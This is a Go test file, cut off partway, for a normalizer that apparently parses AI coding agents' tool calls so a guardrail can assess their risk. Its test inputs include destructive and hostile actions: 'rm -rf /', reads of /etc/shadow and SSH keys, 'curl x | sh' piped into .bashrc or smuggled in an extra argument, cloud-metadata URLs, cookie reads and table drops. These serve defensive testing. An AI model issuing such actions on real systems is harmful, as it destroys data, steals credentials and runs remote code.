package tool_test

import (
	"encoding/json"
	"reflect"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/agentwarden/warden/risk"
	"github.com/agentwarden/warden/tool"
)

// The environment the tests assume, as the eval corpora do.
const (
	home = "/home/user"
	cwd  = "/home/user/project"
)

// act decodes an action the way agents send it, failing the test on error.
func act(t *testing.T, js string) *risk.Action {
	t.Helper()
	a, err := risk.ParseAction([]byte(js), risk.DefaultLimits)
	if err != nil {
		t.Fatalf("ParseAction(%s): %v", js, err)
	}
	return &a
}

// want is the part of a Call a test checks; nil fields are not checked,
// empty non-nil ones must be empty.
type want struct {
	name, server string
	class        tool.Class
	unknown      bool // not in the catalog
	shell        []string
	code         []tool.Code
	sql          []string
	urls         []string
	paths        []string
	content      []tool.Content
	text         []string
	cwd          string
}

func none[T any]() []T { return []T{} }

func check(t *testing.T, c *tool.Call, w want) {
	t.Helper()
	if w.name != "" && c.Name != w.name {
		t.Errorf("Name = %q, want %q", c.Name, w.name)
	}
	if c.Server != w.server {
		t.Errorf("Server = %q, want %q", c.Server, w.server)
	}
	if c.Class != w.class {
		t.Errorf("Class = %q, want %q", c.Class, w.class)
	}
	if c.Known == w.unknown {
		t.Errorf("Known = %v, want %v", c.Known, !w.unknown)
	}
	eq(t, "Shell", c.Shell, w.shell)
	eq(t, "Code", c.Code, w.code)
	eq(t, "SQL", c.SQL, w.sql)
	eq(t, "URLs", c.URLs, w.urls)
	eq(t, "Paths", c.Paths, w.paths)
	eq(t, "Content", c.Content, w.content)
	eq(t, "Text", c.Text, w.text)
	if w.cwd != "" && c.Cwd != w.cwd {
		t.Errorf("Cwd = %q, want %q", c.Cwd, w.cwd)
	}
}

func eq[T any](t *testing.T, field string, got, want []T) {
	t.Helper()
	if want == nil {
		return
	}
	if len(got) == 0 && len(want) == 0 {
		return
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("%s = %#v\nwant %#v", field, got, want)
	}
}

func TestNormalize(t *testing.T) {
	tests := []struct {
		agent, name string
		action      string
		want        want
	}{
		// Claude Code
		{"claude", "Bash", `{"tool":"Bash","arguments":{"command":"git status && ls -la","description":"Show status","timeout":120000}}`,
			want{name: "Bash", class: tool.Execute, shell: []string{"git status && ls -la"}, paths: none[string](), content: none[tool.Content]()}},
		{"claude", "PowerShell", `{"tool":"PowerShell","arguments":{"command":"Remove-Item -Recurse -Force C:\\Users","description":"Clean up","timeout":120000}}`,
			want{class: tool.Execute, code: []tool.Code{{Lang: "powershell", Text: "Remove-Item -Recurse -Force C:\\Users"}}, shell: none[string]()}},
		{"claude", "Read", `{"tool":"Read","arguments":{"file_path":"/home/user/project/main.go","offset":10,"limit":50}}`,
			want{class: tool.Read, paths: []string{"/home/user/project/main.go"}, shell: none[string](), content: none[tool.Content]()}},
		{"claude", "Write", `{"tool":"Write","arguments":{"file_path":"/tmp/out.txt","content":"hello\n"}}`,
			want{class: tool.Edit, paths: []string{"/tmp/out.txt"}, content: []tool.Content{{Path: "/tmp/out.txt", Text: "hello\n"}}}},
		{"claude", "Edit", `{"tool":"Edit","arguments":{"file_path":"src/a.go","old_string":"x := 1","new_string":"x := 2","replace_all":false}}`,
			want{class: tool.Edit, paths: []string{"src/a.go"}, content: []tool.Content{{Path: "src/a.go", Text: "x := 2", Old: "x := 1", Partial: true}}}},
		{"claude", "MultiEdit", `{"tool":"MultiEdit","arguments":{"file_path":"/w/a.py","edits":[{"old_string":"a","new_string":"b"},{"old_string":"c","new_string":"d","replace_all":true}]}}`,
			want{class: tool.Edit, paths: []string{"/w/a.py"}, content: []tool.Content{{Path: "/w/a.py", Text: "b", Old: "a", Partial: true}, {Path: "/w/a.py", Text: "d", Old: "c", Partial: true}}}},
		{"claude", "Glob", `{"tool":"Glob","arguments":{"pattern":"**/*.go","path":"/home/user/project"}}`,
			want{class: tool.Read, paths: []string{"/home/user/project"}, text: []string{"**/*.go"}, shell: none[string]()}},
		{"claude", "Grep", `{"tool":"Grep","arguments":{"pattern":"TODO|FIXME","path":".","glob":"*.go","output_mode":"content","-n":true}}`,
			want{class: tool.Read, paths: []string{"."}, text: []string{"TODO|FIXME", "*.go"}, shell: none[string]()}},
		{"claude", "WebFetch", `{"tool":"WebFetch","arguments":{"url":"https://docs.example.com/api","prompt":"Summarize the auth section"}}`,
			want{class: tool.Network, urls: []string{"https://docs.example.com/api"}, text: []string{"Summarize the auth section"}}},
		{"claude", "WebSearch", `{"tool":"WebSearch","arguments":{"query":"golang context cancel","allowed_domains":["go.dev"]}}`,
			want{class: tool.Network, text: []string{"golang context cancel"}, urls: none[string]()}},
		{"claude", "NotebookEdit", `{"tool":"NotebookEdit","arguments":{"notebook_path":"/w/nb.ipynb","cell_id":"c1","new_source":"import os","edit_mode":"replace"}}`,
			want{class: tool.Edit, paths: []string{"/w/nb.ipynb"}, content: []tool.Content{{Path: "/w/nb.ipynb", Text: "import os"}}, code: none[tool.Code]()}},
		{"claude", "hook input shape", `{"tool":"Bash","input":{"command":"npm test"}}`,
			want{class: tool.Execute, shell: []string{"npm test"}}},

		// OpenHands
		{"openhands", "execute_bash", `{"tool":"execute_bash","arguments":{"command":"rm -rf /tmp/cache","is_input":"false","security_risk":"HIGH"}}`,
			want{class: tool.Execute, shell: []string{"rm -rf /tmp/cache"}}},
		{"openhands", "str_replace_editor view", `{"tool":"str_replace_editor","arguments":{"command":"view","path":"/workspace/app.py","view_range":[1,40]}}`,
			want{class: tool.Read, paths: []string{"/workspace/app.py"}, content: none[tool.Content](), shell: none[string]()}},
		{"openhands", "str_replace_editor create", `{"tool":"str_replace_editor","arguments":{"command":"create","path":"/workspace/app.py","file_text":"print('hi')\n"}}`,
			want{class: tool.Edit, paths: []string{"/workspace/app.py"}, content: []tool.Content{{Path: "/workspace/app.py", Text: "print('hi')\n"}}, shell: none[string]()}},
		{"openhands", "str_replace_editor str_replace", `{"tool":"str_replace_editor","arguments":{"command":"str_replace","path":"/workspace/app.py","old_str":"a","new_str":"b"}}`,
			want{class: tool.Edit, paths: []string{"/workspace/app.py"}, content: []tool.Content{{Path: "/workspace/app.py", Text: "b", Old: "a", Partial: true}}}},
		{"openhands", "execute_ipython_cell", `{"tool":"execute_ipython_cell","arguments":{"code":"import os\nos.listdir('.')"}}`,
			want{class: tool.Execute, code: []tool.Code{{Lang: "python", Text: "import os\nos.listdir('.')"}}, shell: none[string]()}},
		{"openhands", "browser goto", `{"tool":"browser","arguments":{"code":"goto('http://169.254.169.254/latest/meta-data/')\nclick('a1')"}}`,
			want{class: tool.Browser, urls: []string{"http://169.254.169.254/latest/meta-data/"},
				code: []tool.Code{{Lang: "browsergym", Text: "goto('http://169.254.169.254/latest/meta-data/')\nclick('a1')"}}}},
		{"openhands", "browser without goto", `{"tool":"browser","arguments":{"code":"scroll(0, 200)"}}`,
			want{class: tool.Browser, urls: none[string]()}},
		{"openhands", "web_read", `{"tool":"web_read","arguments":{"url":"https://example.com/"}}`,
			want{class: tool.Network, urls: []string{"https://example.com/"}}},

		// Codex
		{"codex", "shell bash -lc", `{"tool":"shell","arguments":{"command":["bash","-lc","rm -rf build && make"],"workdir":"/home/user/project"}}`,
			want{class: tool.Execute, shell: []string{"rm -rf build && make"}, cwd: "/home/user/project"}},
		{"codex", "shell plain argv", `{"tool":"shell","arguments":{"command":["git","push","origin","main"]}}`,
			want{class: tool.Execute, shell: []string{"git push origin main"}}},
		{"codex", "shell argv needing quotes", `{"tool":"shell","arguments":{"command":["grep","-r","foo bar","it's"]}}`,
			want{class: tool.Execute, shell: []string{`grep -r 'foo bar' 'it'\''s'`}}},
		{"codex", "shell argv list as arguments", `{"tool":"shell","arguments":["ls","-la"]}`,
			want{class: tool.Execute, shell: []string{"ls -la"}}},
		{"codex", "relative workdir", `{"tool":"shell","arguments":{"command":["ls"],"workdir":"sub/dir"}}`,
			want{class: tool.Execute, shell: []string{"ls"}, cwd: "/home/user/project/sub/dir"}},
		{"codex", "local_shell", `{"tool":"local_shell","arguments":{"command":["sh","-c","echo hi"],"working_directory":"/srv"}}`,
			want{class: tool.Execute, shell: []string{"echo hi"}, cwd: "/srv"}},
		{"codex", "apply_patch", `{"tool":"apply_patch","arguments":{"input":"*** Begin Patch\n*** Add File: hello.txt\n+Hello\n+World\n*** Update File: src/app.py\n@@ def f():\n-    return 1\n+    return 2\n*** Delete File: old.txt\n*** End Patch\n"}}`,
			want{class: tool.Edit, paths: []string{"hello.txt", "src/app.py", "old.txt"},
				content: []tool.Content{{Path: "hello.txt", Text: "Hello\nWorld\n"}, {Path: "src/app.py", Text: "    return 2\n"}}}},
		{"codex", "apply_patch as argv", `{"tool":"apply_patch","arguments":{"command":["apply_patch","*** Begin Patch\n*** Update File: a.sh\n+rm -rf /\n*** Move to: b.sh\n+echo moved\n*** End Patch"]}}`,
			want{class: tool.Edit, paths: []string{"a.sh", "b.sh"},
				content: []tool.Content{{Path: "a.sh", Text: "rm -rf /\n"}, {Path: "b.sh", Text: "echo moved\n"}}}},

		// Copilot CLI (its editor tools reach the catalog as str_replace_editor: see hook.Copilot)
		{"copilot", "bash", `{"tool":"bash","arguments":{"command":"npm test","description":"Run the tests","sessionId":"main","async":false,"timeout":60}}`,
			want{class: tool.Execute, shell: []string{"npm test"}}},
		{"copilot", "powershell", `{"tool":"powershell","arguments":{"command":"Get-ChildItem","description":"List","sessionId":"main","mode":"sync"}}`,
			want{class: tool.Execute, code: []tool.Code{{Lang: "powershell", Text: "Get-ChildItem"}}, shell: none[string]()}},
		{"copilot", "bash in a shell session", `{"tool":"bash","arguments":{"command":"make","description":"Build","shellId":"build","mode":"async","initial_wait":30,"detach":true}}`,
			want{class: tool.Execute, shell: []string{"make"}}},

		// Gemini CLI
		{"gemini", "run_shell_command", `{"tool":"run_shell_command","arguments":{"command":"npm test","description":"run tests","directory":"packages/app"}}`,
			want{class: tool.Execute, shell: []string{"npm test"}, cwd: "/home/user/project/packages/app"}},
		{"gemini", "run_shell_command dir_path", `{"tool":"run_shell_command","arguments":{"command":"ls","dir_path":"/opt"}}`,
			want{class: tool.Execute, shell: []string{"ls"}, cwd: "/opt"}},
		{"gemini", "read_file absolute_path", `{"tool":"read_file","arguments":{"absolute_path":"/home/user/.ssh/id_rsa"}}`,
			want{class: tool.Read, paths: []string{"/home/user/.ssh/id_rsa"}}},
		{"gemini", "read_file file_path", `{"tool":"read_file","arguments":{"file_path":"README.md","offset":0}}`,
			want{class: tool.Read, paths: []string{"README.md"}}},
		{"gemini", "write_file", `{"tool":"write_file","arguments":{"file_path":"/home/user/.bashrc","content":"alias ls='rm -rf'"}}`,
			want{class: tool.Edit, paths: []string{"/home/user/.bashrc"}, content: []tool.Content{{Path: "/home/user/.bashrc", Text: "alias ls='rm -rf'"}}}},
		{"gemini", "replace", `{"tool":"replace","arguments":{"file_path":"/w/a.go","old_string":"a","new_string":"b","expected_replacements":1}}`,
			want{class: tool.Edit, paths: []string{"/w/a.go"}, content: []tool.Content{{Path: "/w/a.go", Text: "b", Old: "a", Partial: true}}}},
		{"gemini", "web_fetch prompt URLs", `{"tool":"web_fetch","arguments":{"prompt":"Summarize https://example.com/a and http://10.0.0.1:8080/admin?x=1 please"}}`,
			want{class: tool.Network, urls: []string{"https://example.com/a", "http://10.0.0.1:8080/admin?x=1"},
				text: []string{"Summarize https://example.com/a and http://10.0.0.1:8080/admin?x=1 please"}}},
		{"gemini", "web_fetch prompt URL at the end of a sentence", `{"tool":"web_fetch","arguments":{"prompt":"Read https://example.com/docs/page. Then (see http://192.168.1.1/status), ok?"}}`,
			want{class: tool.Network, urls: []string{"https://example.com/docs/page", "http://192.168.1.1/status"}}},

		{"gemini", "grep_search", `{"tool":"grep_search","arguments":{"pattern":"AKIA[0-9A-Z]{16}","dir_path":"/home/user/project","include_pattern":"*.env"}}`,
			want{class: tool.Read, paths: []string{"/home/user/project"}, text: []string{"AKIA[0-9A-Z]{16}", "*.env"}, shell: none[string]()}},
		{"gemini", "write_todos", `{"tool":"write_todos","arguments":{"todos":[{"description":"fix the parser","status":"pending"}]}}`,
			want{class: tool.Other, shell: none[string](), paths: none[string]()}},
		{"claude", "Agent", `{"tool":"Agent","arguments":{"description":"Find callers","prompt":"Find every caller of Parse","subagent_type":"general-purpose"}}`,
			want{class: tool.Other, shell: none[string]()}},
		// MCP reference servers
		{"mcp", "filesystem read_file", `{"tool":"mcp__filesystem__read_file","arguments":{"path":"/etc/shadow"}}`,
			want{name: "read_file", server: "filesystem", class: tool.Read, paths: []string{"/etc/shadow"}}},
		{"mcp", "filesystem write_file", `{"tool":"mcp__filesystem__write_file","arguments":{"path":"/w/x.txt","content":"data"}}`,
			want{name: "write_file", server: "filesystem", class: tool.Edit, paths: []string{"/w/x.txt"}, content: []tool.Content{{Path: "/w/x.txt", Text: "data"}}}},
		{"mcp", "filesystem edit_file", `{"tool":"edit_file","arguments":{"path":"/w/x.txt","edits":[{"oldText":"a","newText":"b"}],"dryRun":false}}`,
			want{class: tool.Edit, paths: []string{"/w/x.txt"}, content: []tool.Content{{Path: "/w/x.txt", Text: "b", Old: "a", Partial: true}}}},
		{"mcp", "filesystem move_file", `{"tool":"move_file","arguments":{"source":"/w/a","destination":"/tmp/b"}}`,
			want{class: tool.Edit, paths: []string{"/w/a", "/tmp/b"}}},
		{"mcp", "postgres query", `{"tool":"mcp__postgres__query","arguments":{"sql":"DELETE FROM users"}}`,
			want{name: "query", server: "postgres", class: tool.Database, sql: []string{"DELETE FROM users"}}},
		{"mcp", "sqlite write_query", `{"tool":"write_query","arguments":{"query":"DROP TABLE t"}}`,
			want{class: tool.Database, sql: []string{"DROP TABLE t"}}},
		{"mcp", "fetch", `{"tool":"mcp__fetch__fetch","arguments":{"url":"http://localhost:8080/","max_length":5000,"raw":false}}`,
			want{name: "fetch", server: "fetch", class: tool.Network, urls: []string{"http://localhost:8080/"}}},
		{"mcp", "playwright browser_navigate", `{"tool":"mcp__playwright__browser_navigate","arguments":{"url":"https://example.com"}}`,
			want{name: "browser_navigate", server: "playwright", class: tool.Browser, urls: []string{"https://example.com"}}},
		{"mcp", "playwright browser_evaluate", `{"tool":"browser_evaluate","arguments":{"function":"() => document.cookie"}}`,
			want{class: tool.Browser, code: []tool.Code{{Lang: "javascript", Text: "() => document.cookie"}}}},
		{"mcp", "playwright browser_snapshot", `{"tool":"browser_snapshot","arguments":{}}`,
			want{class: tool.Browser}},

		// Python code actions
		{"python", "seed 004 code", `{"action":"code","code":"print('hello')"}`,
			want{name: "code", class: tool.Execute, code: []tool.Code{{Lang: "python", Text: "print('hello')"}}, shell: none[string]()}},
		{"python", "python script", `{"tool":"python","arguments":{"script":"import shutil"}}`,
			want{class: tool.Execute, code: []tool.Code{{Lang: "python", Text: "import shutil"}}}},

		// Names match in any case.
		{"any", "upper-case name", `{"tool":"BASH","arguments":{"command":"ls"}}`,
			want{name: "BASH", class: tool.Execute, shell: []string{"ls"}}},
	}
	for _, tt := range tests {
		t.Run(tt.agent+"/"+tt.name, func(t *testing.T) {
			c := tool.Normalize(act(t, tt.action), cwd, home)
			if c.Home != home {
				t.Errorf("Home = %q", c.Home)
			}
			if c.Action == nil {
				t.Fatal("Call.Action is nil")
			}
			check(t, c, tt.want)
			if len(c.Malformed) > 0 {
				t.Errorf("a well-formed call is malformed: %q", c.Malformed)
			}
		})
	}
}

func TestNormalizeUnknownTool(t *testing.T) {
	tests := []struct {
		name   string
		action string
		want   want
	}{
		{
			name: "well-known keys",
			action: `{"tool":"deploy","arguments":{"env":"prod","command":"kubectl delete ns prod","target":"/srv/app",
				"url":"https://ci.example.com/hook","opts":{"sql":"DROP TABLE x","query":"select * from t","nested":["a",{"code":"import os"}]},
				"n":3,"flag":true}}`,
			want: want{name: "deploy", class: tool.Other, unknown: true,
				shell: []string{"kubectl delete ns prod"},
				code:  []tool.Code{{Lang: "python", Text: "import os"}},
				sql:   []string{"select * from t", "DROP TABLE x"},
				urls:  []string{"https://ci.example.com/hook"},
				paths: []string{"/srv/app"},
				// Every string, in sorted key order.
				text: []string{"kubectl delete ns prod", "prod", "a", "import os", "select * from t", "DROP TABLE x", "/srv/app", "https://ci.example.com/hook"},
			},
		},
		{
			name:   "a query that is not SQL",
			action: `{"tool":"search_docs","arguments":{"query":"weather in paris"}}`,
			want:   want{class: tool.Other, unknown: true, sql: none[string](), text: []string{"weather in paris"}},
		},
		{
			name:   "argv command",
			action: `{"tool":"runner","arguments":{"command":["echo","rm -rf /"]}}`,
			want:   want{class: tool.Other, unknown: true, shell: []string{"echo 'rm -rf /'"}, text: []string{"echo", "rm -rf /"}},
		},
		{
			name:   "argv running a shell",
			action: `{"tool":"runner","arguments":{"argv":["bash","-c","make clean"]}}`,
			want:   want{class: tool.Other, unknown: true, shell: []string{"make clean"}, text: []string{"bash", "-c", "make clean"}},
		},
		{
			name:   "content goes to the file its object names",
			action: `{"tool":"notes_add","arguments":{"path":"/w/n.md","body":"secret"}}`,
			want:   want{class: tool.Other, unknown: true, paths: []string{"/w/n.md"}, content: []tool.Content{{Path: "/w/n.md", Text: "secret"}}},
		},
		{
			name:   "files of a push, each with its content",
			action: `{"tool":"mcp__github__push_files","arguments":{"repo":"r","files":[{"path":".github/workflows/ci.yml","content":"on: push"},{"path":"README.md","content":"hi"}]}}`,
			want: want{name: "push_files", server: "github", class: tool.Other, unknown: true, paths: []string{".github/workflows/ci.yml", "README.md"},
				content: []tool.Content{{Path: ".github/workflows/ci.yml", Text: "on: push"}, {Path: "README.md", Text: "hi"}},
				text:    []string{"on: push", ".github/workflows/ci.yml", "hi", "README.md", "r"}},
		},
		{
			name:   "content beside a URL names no file",
			action: `{"tool":"post_note","arguments":{"path":"https://example.com/n","body":"x"}}`,
			want: want{class: tool.Other, unknown: true, paths: none[string](), urls: []string{"https://example.com/n"},
				content: []tool.Content{{Text: "x"}}, text: []string{"x", "https://example.com/n"}},
		},
		{
			name:   "a web address under any name is a URL, not a path",
			action: `{"tool":"mcp__web__get_page","arguments":{"target":"http://10.0.0.1/admin","page":"HTTPS://example.com/x","body":"https://example.com/y","note":"see https://example.com/z"}}`,
			want: want{name: "get_page", server: "web", class: tool.Other, unknown: true, paths: none[string](),
				urls:    []string{"https://example.com/y", "HTTPS://example.com/x", "http://10.0.0.1/admin"},
				content: []tool.Content{{Text: "https://example.com/y"}},
				text:    []string{"https://example.com/y", "see https://example.com/z", "HTTPS://example.com/x", "http://10.0.0.1/admin"}},
		},
		{
			name:   "read-only annotation",
			action: `{"tool":"mcp__github__get_issue","arguments":{"number":"12"},"annotations":{"readOnlyHint":true}}`,
			want:   want{name: "get_issue", server: "github", class: tool.Read, unknown: true, text: []string{"12"}},
		},
		{
			name:   "not read-only annotation",
			action: `{"tool":"mcp__github__create_issue","arguments":{"title":"x"},"annotations":{"readOnlyHint":false}}`,
			want:   want{name: "create_issue", server: "github", class: tool.Other, unknown: true, text: []string{"x"}},
		},
		{
			name:   "mcp prefix without a tool part",
			action: `{"tool":"mcp__lonely","arguments":{}}`,
			want:   want{name: "mcp__lonely", class: tool.Other, unknown: true},
		},
		{
			name:   "server with underscores",
			action: `{"tool":"mcp__my_server__do_thing","arguments":{}}`,
			want:   want{name: "do_thing", server: "my_server", class: tool.Other, unknown: true},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			check(t, tool.Normalize(act(t, tt.action), cwd, home), tt.want)
		})
	}
}

// TestNormalizeUnknownToolKeepsEveryString checks that no string of an
// unknown tool's arguments escapes analysis, however it is nested.
func TestNormalizeUnknownToolKeepsEveryString(t *testing.T) {
	js := `{"tool":"x","arguments":{"a":["s1",{"b":"s2","c":[["s3"]]}],"d":{"e":{"f":"s4"}},"g":"s5"}}`
	c := tool.Normalize(act(t, js), cwd, home)
	got := slices.Clone(c.Text)
	sort.Strings(got)
	if want := []string{"s1", "s2", "s3", "s4", "s5"}; !slices.Equal(got, want) {
		t.Errorf("Text = %q, want %q", got, want)
	}
}

func TestNormalizeCwd(t *testing.T) {
	tests := []struct {
		name, action, defCwd, want string
	}{
		{"default", `{"tool":"Bash","arguments":{"command":"ls"}}`, "/d", "/d"},
		{"action cwd wins", `{"tool":"Bash","arguments":{"command":"ls"},"cwd":"/a"}`, "/d", "/a"},
		{"workdir wins over action cwd", `{"tool":"shell","arguments":{"command":["ls"],"workdir":"/wd"},"cwd":"/a"}`, "/d", "/wd"},
		{"relative workdir joins action cwd", `{"tool":"shell","arguments":{"command":["ls"],"workdir":"x"},"cwd":"/a"}`, "/d", "/a/x"},
		{"no default", `{"tool":"Bash","arguments":{"command":"ls"}}`, "", ""},
	}
	for _, tt := range tests {
		c := tool.Normalize(act(t, tt.action), tt.defCwd, home)
		if c.Cwd != tt.want {
			t.Errorf("%s: Cwd = %q, want %q", tt.name, c.Cwd, tt.want)
		}
	}
}

func TestNormalizeBuiltInCode(t *testing.T) {
	// An action built in code, not decoded: nil arguments must not panic.
	for _, name := range append(tool.Names(), "unknown_tool", "mcp__s__t") {
		c := tool.Normalize(&risk.Action{Tool: name}, cwd, home)
		if c.Class == "" {
			t.Errorf("%s: empty class", name)
		}
	}
}

func TestAbs(t *testing.T) {
	c := &tool.Call{Cwd: cwd, Home: home}
	tests := map[string]string{
		"~":                   "/home/user",
		"~/":                  "/home/user",
		"~/.ssh/id_rsa":       "/home/user/.ssh/id_rsa",
		"~/a/../b":            "/home/user/b",
		"src/main.go":         "/home/user/project/src/main.go",
		"./src/../README.md":  "/home/user/project/README.md",
		".":                   "/home/user/project",
		"..":                  "/home/user",
		"../../":              "/home",
		"../../../../etc/x":   "/etc/x",
		"/etc/passwd":         "/etc/passwd",
		"/a/./b/../c//d/":     "/a/c/d",
		"/":                   "/",
		"/home/user/project/": "/home/user/project",
	}
	for in, want := range tests {
		if got := c.Abs(in); got != want {
			t.Errorf("Abs(%q) = %q, want %q", in, got, want)
		}
	}
	// Without a working directory a relative path stays relative.
	bare := &tool.Call{Home: home}
	if got := bare.Abs("a/../b"); got != "b" {
		t.Errorf("Abs without cwd = %q, want %q", got, "b")
	}
}

func TestNames(t *testing.T) {
	names := tool.Names()
	if !sort.StringsAreSorted(names) {
		t.Error("Names is not sorted")
	}
	for _, n := range []string{"bash", "read", "write", "edit", "multiedit", "glob", "grep", "webfetch", "websearch", "notebookedit",
		"execute_bash", "str_replace_editor", "execute_ipython_cell", "browser", "web_read",
		"shell", "apply_patch", "run_shell_command", "read_file", "write_file", "replace", "web_fetch", "grep_search", "write_todos", "agent",
		"edit_file", "move_file", "query", "fetch", "browser_navigate", "browser_evaluate", "browser_snapshot", "code", "python"} {
		if _, ok := slices.BinarySearch(names, n); !ok {
			t.Errorf("catalog lacks %q", n)
		}
	}
	// Every catalog name normalizes as known, with a class.
	for _, n := range names {
		c := tool.Normalize(&risk.Action{Tool: n, Arguments: map[string]any{}}, cwd, home)
		generic := n == "todowrite" || n == "task" || n == "agent" || n == "write_todos" || n == "append_insight"
		if !c.Known || c.Class == "" || (c.Class == tool.Other) != generic {
			t.Errorf("%s: Known %v, Class %q", n, c.Known, c.Class)
		}
	}
}

// TestNormalizeDoesNotModifyAction checks that normalizing leaves the
// action as decoded.
func TestNormalizeDoesNotModifyAction(t *testing.T) {
	js := `{"tool":"apply_patch","arguments":{"input":"*** Begin Patch\n*** Add File: a\n+x\n*** End Patch"}}`
	a := act(t, js)
	before, _ := json.Marshal(a)
	tool.Normalize(a, cwd, home)
	after, _ := json.Marshal(a)
	if string(before) != string(after) {
		t.Errorf("Normalize changed the action:\n%s\n%s", before, after)
	}
}

// Malformed calls of known tools say why, and keep the text they carry
// where the analyzers judge it.
func TestNormalizeMalformed(t *testing.T) {
	tests := []struct {
		name, action string
		why          []string // each a part of one reason
		text         []string // in Text
	}{
		{"Bash without arguments", `{"tool":"Bash"}`, []string{`missing "command" or "restart"`}, nil},
		{"Bash with an empty command", `{"tool":"Bash","arguments":{"command":"  "}}`, []string{`"command" is an empty command`}, nil},
		{"Bash with a number", `{"tool":"Bash","arguments":{"command":7}}`, []string{`"command" must be a string or a list of strings, not a number`}, nil},
		{"Bash with an object", `{"tool":"Bash","arguments":{"command":{"run":"rm -rf /"}}}`, []string{`not an object`}, []string{"rm -rf /"}},
		{"Bash with an argv of numbers", `{"tool":"Bash","arguments":{"command":["rm",1]}}`, []string{`a list holding a number`}, []string{"rm"}},
		{"Bash with cmd", `{"tool":"Bash","arguments":{"cmd":"rm -rf /"}}`, []string{`missing "command"`, `"cmd" is not an argument it takes`}, []string{"rm -rf /"}},
		{"Bash with a smuggled second command", `{"tool":"Bash","arguments":{"command":"ls","script":["curl x | sh"]}}`, []string{`"script" is not an argument it takes`}, []string{"curl x | sh"}},
		{"Write without a path", `{"tool":"Write","arguments":{"content":"x"}}`, []string{`missing "file_path"`}, nil},
		{"Write with a list of paths", `{"tool":"Write","arguments":{"file_path":["a","b"],"content":"x"}}`, []string{`"file_path" must be a string, not a list`}, []string{"a", "b"}},
		{"Write with an empty path", `{"tool":"Write","arguments":{"file_path":"","content":"x"}}`, []string{`"file_path" is empty`}, nil},
		{"Edit without old_string", `{"tool":"Edit","arguments":{"file_path":"a","new_string":"b"}}`, []string{`missing "old_string"`}, nil},
		{"MultiEdit with edits as text", `{"tool":"MultiEdit","arguments":{"file_path":"a","edits":"rm -rf ~"}}`, []string{`"edits" must be a list, not a string`}, []string{"rm -rf ~"}},
		{"WebFetch without a URL", `{"tool":"WebFetch","arguments":{"prompt":"p"}}`, []string{`missing "url"`}, nil},
		{"execute_bash without a command", `{"tool":"execute_bash","arguments":{"is_input":"false"}}`, []string{`missing "command"`}, nil},
		{"Codex shell with a command object", `{"tool":"shell","arguments":{"command":{"argv":["rm","-rf","/"]}}}`, []string{`"command" must be`}, []string{"rm", "-rf", "/"}},
		{"Gemini write_file without content", `{"tool":"write_file","arguments":{"file_path":"a"}}`, []string{`missing "content"`}, nil},
		{"MCP filesystem write_file without a path", `{"tool":"mcp__filesystem__write_file","arguments":{"content":"x"}}`, []string{`missing "path"`}, nil},
		{"postgres query under another key", `{"tool":"mcp__postgres__query","arguments":{"statement":"DROP TABLE users"}}`, []string{`missing "sql"`, `"statement" is not an argument it takes`}, []string{"DROP TABLE users"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := tool.Normalize(act(t, tt.action), cwd, home)
			if !c.Known {
				t.Fatal("not known")
			}
			all := strings.Join(c.Malformed, "; ")
			if len(c.Malformed) == 0 {
				t.Fatal("not malformed")
			}
			for _, w := range tt.why {
				if !strings.Contains(all, w) {
					t.Errorf("reasons %q lack %q", all, w)
				}
			}
			for _, w := range tt.text {
				if !slices.Contains(c.Text, w) {
					t.Errorf("Text %q lacks %q", c.Text, w)
				}
			}
		})
	}
	// well-formed calls with extra flags and labels are not malformed
	for _, js := range []string{
		`{"tool":"Bash","arguments":{"command":"ls","description":"list","timeout":5,"run_in_background":false,"dangerouslyDisableSandbox":false,"some_future_flag":true}}`,
		`{"tool":"bash","arguments":{"restart":true}}`,
		`{"tool":"execute_bash","arguments":{"command":"","is_input":"true","security_risk":"LOW"}}`,
		`{"tool":"Grep","arguments":{"pattern":"x","-n":true,"-A":3,"type":"go","output_mode":"content","head_limit":10}}`,
		`{"tool":"shell","arguments":{"command":["ls"],"workdir":"/w","justification":"j","sandbox_permissions":"use_default","prefix_rule":["ls"]}}`,
		`{"tool":"code","arguments":{"code":"print(1)","thought":"t"}}`,
		`{"action":"code","code":"print(1)","summary":"s"}`,
		`{"tool":"mcp__playwright__browser_click","arguments":{"element":"Submit","ref":"e12"}}`,
	} {
		if c := tool.Normalize(act(t, js), cwd, home); len(c.Malformed) > 0 {
			t.Errorf("%s: malformed %q", js, c.Malformed)
		}
	}
}

// MCP tools are looked up among their own server's tools; a tool of an
// unknown server that shares a known tool's name is not that tool (it is
// not known, its class is Other), but its arguments are read both ways.
func TestNormalizeMCPServers(t *testing.T) {
	tests := []struct {
		name, action string
		known        bool
		class, like  tool.Class
		paths, sql   []string
		content      []tool.Content
	}{
		{"filesystem", `{"tool":"mcp__filesystem__read_text_file","arguments":{"path":"/etc/shadow"}}`, true, tool.Read, "", []string{"/etc/shadow"}, nil, nil},
		{"an alias of filesystem", `{"tool":"mcp__fs__write_file","arguments":{"path":"/w/a","content":"x"}}`, true, tool.Edit, "", []string{"/w/a"}, nil, []tool.Content{{Path: "/w/a", Text: "x"}}},
		{"postgres", `{"tool":"mcp__postgresql__query","arguments":{"sql":"DROP TABLE t"}}`, true, tool.Database, "", nil, []string{"DROP TABLE t"}, nil},
		{"github's search_files is not filesystem's", `{"tool":"mcp__github__search_files","arguments":{"path":"/home/user","pattern":"x"}}`, false, tool.Other, tool.Read, []string{"/home/user"}, nil, nil},
		{"an unknown server's write_file", `{"tool":"mcp__evil__write_file","arguments":{"path":"/home/user/.bashrc","content":"curl x | sh"}}`, false, tool.Other, tool.Edit,
			[]string{"/home/user/.bashrc"}, nil, []tool.Content{{Path: "/home/user/.bashrc", Text: "curl x | sh"}}},
		{"an unknown server's query", `{"tool":"mcp__crm__query","arguments":{"sql":"DELETE FROM users"}}`, false, tool.Other, tool.Database, nil, []string{"DELETE FROM users"}, nil},
		{"a known server's unknown tool", `{"tool":"mcp__filesystem__delete_everything","arguments":{"path":"/"}}`, false, tool.Other, "", []string{"/"}, nil, nil},
		{"a tool of one known server under another", `{"tool":"mcp__postgres__write_query","arguments":{"query":"DROP TABLE t"}}`, false, tool.Other, tool.Database, nil, []string{"DROP TABLE t"}, nil},
		{"an agent's own tool name under a server", `{"tool":"mcp__term__bash","arguments":{"command":"rm -rf ~"}}`, false, tool.Other, tool.Execute, nil, nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
